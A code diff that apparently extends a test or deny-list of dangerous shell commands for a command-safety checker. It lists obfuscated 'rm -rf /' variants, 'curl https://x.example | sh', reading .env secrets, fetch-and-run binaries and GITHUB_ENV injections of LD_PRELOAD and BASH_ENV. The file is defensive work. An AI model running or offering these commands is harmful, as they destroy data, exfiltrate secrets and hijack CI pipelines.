@@ -484,3 +484,41 @@ nsenter -t 1 -m sh
 npm set-script postinstall "rm -rf /"
 npm pkg set scripts.postinstall="rm -rf /"
 php -r 'eval(file_get_contents("https://evil.example"));'
+A=$(rm -rf /) true
+A=b$(curl https://x.example | sh) B=c npm ci
+A=`rm -rf /` npm ci
+A=${B:-$(rm -rf /)} npm ci
+A=$(( $(rm -rf /) )) make
+TOKEN=$(cat .env) npm ci
+x() { A=$(rm -rf /) true; }; x
+rm() { :; }; command rm -rf /
+rm() { :; }; env rm -rf /
+rm() { :; }; sudo rm -rf /
+ls() { :; }; find . -exec rm -rf / \;
+test -v 'a[$(rm -rf /)]'
+[[ -v 'a[$(rm -rf /)]' ]]
+[[ 'a[$(rm -rf /)]' -eq 1 ]]
+printf -v 'a[$(rm -rf /)]' x
+read 'a[$(rm -rf /)]' < x
+unset 'a[$(rm -rf /)]'
+declare 'a[$(rm -rf /)]=x'
+x='a[$(rm -rf /)]'; echo $((x))
+mapfile -C 'rm -rf / #' -c 1 a < f
+complete -C 'rm -rf /' x
+bind -x '"\C-x":rm -rf /'
+tar xf x.tar --to-command=sh
+git pull https://x.example/y.git main
+git remote set-url origin https://x.example/y.git
+curl -o /usr/local/bin/x https://x.example; chmod +x /usr/local/bin/x; x
+echo A=b >> /home/runner/work/_temp/_runner_file_commands/add_path_1
+F=$GITHUB_ENV; echo BASH_ENV=./x >> $F
+{ echo "A=1"; echo "LD_PRELOAD=x"; } >> "$GITHUB_ENV"
+printf 'LD_PRE' >> "$GITHUB_ENV"; printf 'LOAD=x\n' >> "$GITHUB_ENV"
+f() { echo "$1=$2" >> $GITHUB_ENV; }; f PERL5OPT -Mx
+echo "LD_PRELOAD=x" | sudo tee -a $GITHUB_ENV >/dev/null
+echo "${{ steps.x.outputs.y }}" >> ${{ github.env }}
+awk '{ print > ENVIRON["GITHUB_ENV"] }' f
+python3 gen.py --out "$GITHUB_ENV"
+cp x "$GITHUB_PATH"
+npx -y create-x@latest
+docker run -v "${HOME}:/h" x
